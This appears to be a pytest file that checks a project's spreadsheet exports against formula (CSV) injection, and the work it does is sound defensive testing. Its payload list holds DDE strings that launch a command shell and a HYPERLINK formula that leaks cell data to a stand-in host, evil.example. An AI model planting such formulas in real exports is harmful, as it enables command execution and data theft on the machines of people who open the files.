"""No spreadsheet Balise exports carries a formula built from user text (OWASP "CSV injection").

Every export is opened with openpyxl and every cell's data type checked: text the user typed is a
string cell (never ``f``), and text that starts like a formula also carries the quote prefix, so
that editing the cell in a spreadsheet keeps it text."""

from __future__ import annotations

import io
import json
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from balise.accounts.actors import SYSTEM
from balise.domain.interchange import loads
from balise.finance import actions as finance_actions
from balise.finance.reports import to_xlsx
from balise.finance.selectors import year_budget
from balise.plans.actions import import_plan
from balise.spreadsheets import workbook_bytes
from balise.workbook.apply import export_workbook
from tests.factories import FIXTURES, user_with_role
from tests.integration.finance.conftest import expense

# The classic payloads: DDE, hyperlinks that leak data, the other formula starters, error literals.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=1+1",
    "#N/A",
]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_no_formula_from(data: bytes, payloads: list[str]) -> None:
    cells = list(_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell holds a formula"
    found = {}
    for cell in cells:
        for payload in payloads:
            if isinstance(cell.value, str) and payload.strip() in cell.value:
                found[payload] = cell
    assert set(found) == set(payloads), "every payload reaches the export"
    for payload, cell in found.items():
        assert cell.data_type == "s", (payload, cell.data_type)
        if cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")):
            assert cell.quotePrefix, (payload, cell.coordinate)


def test_every_string_written_through_the_helper_stays_text():
    book = Workbook()
    for n, payload in enumerate(PAYLOADS, start=1):
        book.active.cell(n, 1, payload)
        book.active.cell(n, 2, n)  # numbers stay numbers
    data = workbook_bytes(book)
    assert_no_formula_from(data, PAYLOADS)
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws.cell(n, 1).value for n in range(1, len(PAYLOADS) + 1)] == PAYLOADS  # read back unchanged
    assert all(ws.cell(n, 2).data_type == "n" for n in range(1, len(PAYLOADS) + 1))


def _hostile_plan():
    """The outside plan with a payload in every title and indicator text the user could type."""
    data = json.loads((FIXTURES / "outside_plan.json").read_text(encoding="utf-8"))
    payloads = iter(PAYLOADS * 20)

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in {"title", "text", "service", "name"} and isinstance(value, str):
                    node[key] = next(payloads)
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(data)
    return import_plan(loads(json.dumps(data)), user=SYSTEM).plan


@pytest.mark.django_db
def test_the_evaluation_workbook_writes_hostile_titles_and_indicators_as_text(reference):
    plan = _hostile_plan()
    assert_no_formula_from(export_workbook(plan, 2024), [p for p in PAYLOADS if p != "#N/A"][:6])


@pytest.mark.django_db
def test_the_financial_report_writes_hostile_suppliers_and_descriptions_as_text(reference):
    plan = import_plan(loads((FIXTURES / "outside_plan.json").read_text(encoding="utf-8")), user=SYSTEM).plan
    owner = user_with_role("owner", None)
    owner.is_superuser = True
    owner.save()
    for n, payload in enumerate(PAYLOADS):
        finance_actions.add_expense(
            plan,
            2024,
            expense(supplier=payload, description=payload, reference=f"F-{n}", spent_on=date(2024, 3, 1)),
            owner,
        )
    assert_no_formula_from(to_xlsx(year_budget(plan, 2024)), PAYLOADS)
